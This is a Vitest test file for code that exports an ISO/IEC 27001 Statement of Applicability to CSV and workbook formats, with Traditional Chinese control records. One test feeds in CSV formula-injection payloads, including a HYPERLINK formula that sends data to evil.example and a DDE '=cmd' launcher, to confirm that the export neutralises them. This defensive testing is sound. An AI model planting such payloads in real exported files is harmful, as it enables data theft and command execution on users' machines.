import { describe, it, expect } from 'vitest';
import { loadControls } from '../../../src/node/controls.ts';
import type { Soa, SoaEntry } from '../../../src/lib/soa/data.ts';
import { computeSoa, type ImplementingDocument } from '../../../src/lib/soa/matrix.ts';
import {
	applicabilityLabel,
	coverageLabel,
	reasonText,
	SOA_COLUMNS,
	soaCsv,
	soaCells,
	soaRecords,
	soaTitleLines,
	statusLabel,
	type SoaHeading,
} from '../../../src/lib/soa/export.ts';
import { PROJECT_ROOT } from '../_helpers.ts';

const loaded = loadControls(PROJECT_ROOT);
const c2013 = loaded.c2013!;
const c2022 = loaded.c2022!;

const COVERED: SoaEntry = {
	id: 'A.5.1.1',
	applicable: true,
	reasons: ['risk', 'law'],
	status: 'implemented',
	owner: '資通安全處理小組',
	evidence: '政策公告紀錄',
	lastReviewed: '2026-01-15',
};
const UNCOVERED: SoaEntry = {
	id: 'A.5.1.2',
	applicable: true,
	reasons: ['practice'],
	status: 'planned',
	owner: '資訊室',
	lastReviewed: '2026-01-10',
};
const EXCLUDED: SoaEntry = {
	id: 'A.6.2.2',
	applicable: false,
	reasons: [],
	justification: '本局不開放遠距工作。',
	owner: '資訊室',
	lastReviewed: '2026-01-15',
};
const UNJUSTIFIED: SoaEntry = { id: 'A.6.2.1', applicable: false, reasons: [] };

function soaOf(entries: SoaEntry[]): Soa {
	return {
		file: 'content/soa.yaml',
		version: '1.2',
		effective: '2026-01-15',
		approvedBy: '資通安全長',
		catalogue: '2013',
		entries: Object.fromEntries(entries.map((e) => [e.id, e])),
	};
}

const doc = (docNo: string, title: string, controls: string[]): ImplementingDocument => ({
	docNo,
	title,
	url: `/documents/${docNo.toLowerCase()}/`,
	controls,
});

/** A.5.1.1 covered by two documents, A.5.1.2 uncovered, A.6.2.2 excluded (and claimed by P-001), A.6.2.1 unjustified, the rest missing. */
const matrix = computeSoa(c2013, soaOf([COVERED, UNCOVERED, EXCLUDED, UNJUSTIFIED]), [
	doc('ISMS-P-006', '管理審查程序書', ['A.5.1.1']),
	doc('ISMS-M-001', '資訊安全管理政策', ['A.5.1.1', 'A.9.2.1']),
	doc('ISMS-P-001', '文件管理程序書', ['A.6.2.2']),
]);
const records = soaRecords(matrix);
const recordOf = (id: string) => records.find((r) => r[0] === id)!;
const rowOf = (id: string) => matrix.rows.find((r) => r.control.id === id)!;

/** Every other control covered (as COVERED), the rest excluded (as EXCLUDED), all implemented by one document: no multi-line cell. */
const fullMatrix = computeSoa(
	c2013,
	soaOf(c2013.controls.map((c, i) => (i % 2 === 0 ? { ...COVERED, id: c.id } : { ...EXCLUDED, id: c.id }))),
	[
		doc(
			'ISMS-M-001',
			'資訊安全管理政策',
			c2013.controls.map((c) => c.id),
		),
	],
);

const HEADING: SoaHeading = {
	standard: 'ISO/IEC 27001:2013',
	organization: '臺北市政府警察局',
	version: '1.2',
	effective: '2026-01-15',
	approvedBy: '資通安全長',
	generated: '2026-03-01',
};
const NO_SOA_HEADING: SoaHeading = { standard: 'ISO/IEC 27001:2013', organization: '臺北市政府警察局', generated: '2026-03-01' };

/**
 * A CSV reader as spreadsheet programs read: fields separated by commas, records by CRLF or a bare
 * LF outside quotes, "" inside a quoted field is a quote.
 */
function readCsv(text: string): string[][] {
	const records: string[][] = [];
	let record: string[] = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i]!;
		if (quoted) {
			if (ch === '"' && text[i + 1] === '"') {
				field += '"';
				i++;
			} else if (ch === '"') quoted = false;
			else field += ch;
		} else if (ch === '"' && field === '') quoted = true;
		else if (ch === ',') {
			record.push(field);
			field = '';
		} else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
			if (ch === '\r') i++;
			record.push(field);
			records.push(record);
			record = [];
			field = '';
		} else field += ch;
	}
	if (field !== '' || record.length > 0) {
		record.push(field);
		records.push(record);
	}
	return records;
}

describe('SOA_COLUMNS', () => {
	it('are the twelve columns of the page, the CSV and the workbook', () => {
		expect(SOA_COLUMNS).toEqual([
			'控制措施編號',
			'控制措施名稱',
			'英文名稱',
			'領域',
			'是否適用',
			'選用理由／不適用理由',
			'實施狀態',
			'權責單位',
			'佐證',
			'實作文件',
			'涵蓋',
			'最近審查',
		]);
	});
});

describe('soaRecords', () => {
	it('has one record per control, in catalogue order, with as many cells as columns', () => {
		expect(records.map((r) => r[0])).toEqual(c2013.controls.map((c) => c.id));
		for (const record of records) expect(record).toHaveLength(SOA_COLUMNS.length);
	});

	it('an applicable control implemented by documents (one per line, by docNo)', () => {
		expect(recordOf('A.5.1.1')).toEqual([
			'A.5.1.1',
			'資訊安全政策',
			'Policies for information security',
			'A.5 資訊安全政策',
			'適用',
			'風險評鑑、法規要求',
			'已實施',
			'資通安全處理小組',
			'政策公告紀錄',
			'ISMS-M-001 資訊安全管理政策\nISMS-P-006 管理審查程序書',
			'已涵蓋',
			'2026-01-15',
		]);
	});

	it('an applicable control no document implements', () => {
		expect(recordOf('A.5.1.2')).toEqual([
			'A.5.1.2',
			'資訊安全政策之審查',
			'Review of the policies for information security',
			'A.5 資訊安全政策',
			'適用',
			'最佳實務',
			'規劃中',
			'資訊室',
			'',
			'',
			'未涵蓋',
			'2026-01-10',
		]);
	});

	it('an excluded control shows its justification, no status and no coverage, but the documents claiming it', () => {
		expect(recordOf('A.6.2.2')).toEqual([
			'A.6.2.2',
			'遠距工作',
			'Teleworking',
			'A.6 資訊安全之組織',
			'不適用',
			'本局不開放遠距工作。',
			'',
			'資訊室',
			'',
			'ISMS-P-001 文件管理程序書',
			'—',
			'2026-01-15',
		]);
	});

	it('an excluded control without justification has an empty reason cell', () => {
		expect(recordOf('A.6.2.1')).toEqual([
			'A.6.2.1',
			'行動裝置政策',
			'Mobile device policy',
			'A.6 資訊安全之組織',
			'不適用',
			'',
			'',
			'',
			'',
			'',
			'—',
			'',
		]);
	});

	it('a control missing from the SoA', () => {
		expect(recordOf('A.9.2.1')).toEqual([
			'A.9.2.1',
			'使用者註冊及註銷',
			'User registration and de-registration',
			'A.9 存取控制',
			'未列入',
			'',
			'',
			'',
			'',
			'ISMS-M-001 資訊安全管理政策',
			'—',
			'',
		]);
	});

	it('the cell helpers', () => {
		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => applicabilityLabel(rowOf(id)))).toEqual([
			'適用',
			'適用',
			'不適用',
			'未列入',
		]);
		expect(['A.5.1.1', 'A.6.2.2', 'A.9.2.1'].map((id) => reasonText(rowOf(id)))).toEqual([
			'風險評鑑、法規要求',
			'本局不開放遠距工作。',
			'',
		]);
		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => statusLabel(rowOf(id)))).toEqual(['已實施', '規劃中', '', '']);
		expect(['A.5.1.1', 'A.5.1.2', 'A.6.2.2', 'A.9.2.1'].map((id) => coverageLabel(rowOf(id)))).toEqual(['已涵蓋', '未涵蓋', '—', '—']);
	});

	it('an excluded entry carrying a status shows no status', () => {
		const odd = computeSoa(c2013, soaOf([{ ...EXCLUDED, status: 'implemented' }]), []);
		expect(statusLabel(odd.rows.find((r) => r.control.id === 'A.6.2.2')!)).toBe('');
	});
});

describe('soaTitleLines', () => {
	it('names the organisation, the standard, the SoA version, its dates and approver', () => {
		expect(soaTitleLines(HEADING)).toEqual([
			'臺北市政府警察局 適用性聲明書（ISO/IEC 27001:2013 附錄 A）',
			'版次 1.2；生效日期 民國115年1月15日；核准 資通安全長；產製日期 民國115年3月1日',
		]);
	});

	it('says when there is no SoA data', () => {
		expect(soaTitleLines(NO_SOA_HEADING)).toEqual([
			'臺北市政府警察局 適用性聲明書（ISO/IEC 27001:2013 附錄 A）',
			'尚未建立適用性聲明書資料；產製日期 民國115年3月1日',
		]);
	});
});

describe('soaCsv', () => {
	const csv = soaCsv(matrix);

	it('starts with a byte-order mark and the column header on row 1', () => {
		expect(csv.startsWith(`\uFEFF${SOA_COLUMNS.join(',')}\r\n`)).toBe(true);
		expect(csv.indexOf('\uFEFF', 1)).toBe(-1);
	});

	it('has one record per control right after the header, with CRLF line ends', () => {
		const full = soaCsv(fullMatrix);
		const lines = full.slice(1).split('\r\n');
		expect(lines[0]).toBe(SOA_COLUMNS.join(','));
		expect(lines[1]).toBe(
			'A.5.1.1,資訊安全政策,Policies for information security,A.5 資訊安全政策,適用,風險評鑑、法規要求,已實施,資通安全處理小組,政策公告紀錄,ISMS-M-001 資訊安全管理政策,已涵蓋,2026-01-15',
		);
		expect(lines[2]).toBe(
			'A.5.1.2,資訊安全政策之審查,Review of the policies for information security,A.5 資訊安全政策,不適用,本局不開放遠距工作。,,資訊室,,ISMS-M-001 資訊安全管理政策,—,2026-01-15',
		);
		expect(lines).toHaveLength(1 + 114 + 1);
		expect(lines.at(-1)).toBe('');
		expect(full.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
	});

	it('quotes cells with commas and quotes, doubling the quotes', () => {
		const tricky = computeSoa(c2013, soaOf([{ ...EXCLUDED, justification: '無遠距工作, 亦無"居家辦公"方案', owner: '資訊室,總務室' }]), []);
		expect(soaCsv(tricky)).toContain(',不適用,"無遠距工作, 亦無""居家辦公""方案",,"資訊室,總務室",,,—,2026-01-15\r\n');
	});

	it('reads back as the header and the records', () => {
		const rows = readCsv(soaCsv(fullMatrix).slice(1));
		expect(rows).toHaveLength(1 + 114);
		expect(rows[0]).toEqual([...SOA_COLUMNS]);
		expect(rows.slice(1)).toEqual(soaRecords(fullMatrix));
	});

	// BUG (src/lib/soa-export.ts:75): csv-stringify does not quote a field containing "\n" when
	// record_delimiter is "\r\n" (its quote_record_delimiter defaults to false then), so the
	// 實作文件 cell of a control implemented by two documents breaks the row in Excel.
	it('quotes a multi-document cell (a line break inside a cell)', () => {
		expect(csv).toContain(',政策公告紀錄,"ISMS-M-001 資訊安全管理政策\nISMS-P-006 管理審查程序書",已涵蓋,');
	});

	it('neutralises cells a spreadsheet would run as formulas with a leading quote (OWASP), and no other cell', () => {
		const hostile = computeSoa(
			c2013,
			soaOf([
				{ ...COVERED, owner: '=HYPERLINK("http://evil.example/?"&A1,"點此")', evidence: '+1+1' },
				{ ...EXCLUDED, justification: '-2+3', owner: '@SUM(A1:A9)' },
				{ ...UNCOVERED, owner: '\t=1', evidence: '\r=1' },
			]),
			[doc('ISMS-P-006', "=cmd|' /C calc'!A0", ['A.5.1.1'])],
		);
		const rows = readCsv(soaCsv(hostile).slice(1));
		const row = (id: string) => rows.find((r) => r[0] === id)!;
		expect(row('A.5.1.1').slice(7, 10)).toEqual([
			`'=HYPERLINK("http://evil.example/?"&A1,"點此")`,
			"'+1+1",
			"ISMS-P-006 =cmd|' /C calc'!A0",
		]);
		expect([row('A.6.2.2')[5], row('A.6.2.2')[7]]).toEqual(["'-2+3", "'@SUM(A1:A9)"]);
		expect([row('A.5.1.2')[7], row('A.5.1.2')[8]]).toEqual(["'\t=1", "'\r=1"]);
		const formulaLike = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
		expect(formulaLike).toEqual([]);
		expect(row('A.6.2.2')[10]).toBe('—');
	});

	it('reads back as the records, multi-line cells included', () => {
		const rows = readCsv(csv.slice(1));
		expect(rows).toHaveLength(1 + 114);
		expect(rows.slice(1)).toEqual(records);
	});
});

describe('soaCells', () => {
	it('are the records with 最近審查 as a date cell, empty dates left as text', () => {
		const cells = soaCells(matrix);
		const column = SOA_COLUMNS.indexOf('最近審查');
		expect(cells[0]![column]).toEqual({ date: '2026-01-15' });
		expect(cells.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : cell.date)))).toEqual(records);
		expect(cells.find((row) => row[0] === 'A.5.2.1')).toBeUndefined();
		expect(cells.find((row) => row[0] === 'A.7.1.1')![column]).toBe('');
	});
});

describe('crosswalk coverage in the exports', () => {
	const soa2022: Soa = {
		file: 'content/soa/2.0.yaml',
		version: '2.0',
		effective: '2026-12-01',
		approvedBy: '資通安全長',
		catalogue: '2022',
		entries: { 'A.5.17': { id: 'A.5.17', applicable: true, reasons: ['risk'], status: 'implemented' } },
	};
	const via = computeSoa(c2022, soa2022, [doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3'])], loaded.crosswalk);
	const row = via.rows.find((r) => r.control.id === 'A.5.17')!;

	it('name the document with 依對照表 and the id it cites, and mark the coverage so', () => {
		const record = soaRecords(via).find((r) => r[0] === 'A.5.17')!;
		expect(record[SOA_COLUMNS.indexOf('實作文件')]).toBe('ISMS-S-001 通行碼管理作業說明書（依對照表：A.9.4.3）');
		expect(coverageLabel(row)).toBe('已涵蓋（依對照表）');
	});

	it('a document citing the 2022 id directly is plain 已涵蓋', () => {
		const direct = computeSoa(
			c2022,
			soa2022,
			[doc('ISMS-S-001', '通行碼管理作業說明書', ['A.9.4.3']), doc('ISMS-P-014', '存取控制管理程序書', ['A.5.17'])],
			loaded.crosswalk,
		);
		expect(coverageLabel(direct.rows.find((r) => r.control.id === 'A.5.17')!)).toBe('已涵蓋');
	});
});
